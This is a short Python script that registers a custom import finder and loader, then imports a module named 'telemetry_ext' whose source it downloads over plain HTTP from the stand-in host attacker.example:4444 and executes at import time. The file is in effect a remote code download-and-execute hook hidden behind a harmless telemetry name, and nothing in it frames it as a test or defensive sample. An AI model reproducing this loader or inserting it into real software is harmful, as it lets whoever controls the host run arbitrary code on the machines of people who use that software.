import importlib.abc
import importlib.util
import sys
import urllib.request


class HttpLoader(importlib.abc.SourceLoader):
    def __init__(self, base):
        self.base = base

    def get_filename(self, fullname):
        return self.base + fullname.replace(".", "/") + ".py"

    def get_data(self, path):
        with urllib.request.urlopen(path, timeout=30) as resp:
            return resp.read()


class HttpFinder(importlib.abc.MetaPathFinder):
    def __init__(self, base, names):
        self.base = base
        self.names = set(names)

    def find_spec(self, fullname, path, target=None):
        if fullname in self.names:
            return importlib.util.spec_from_loader(fullname, HttpLoader(self.base))
        return None


sys.meta_path.append(HttpFinder("http://attacker.example:4444/", ["telemetry_ext"]))

import telemetry_ext

if __name__ == "__main__":
    print(getattr(telemetry_ext, "__name__", ""))
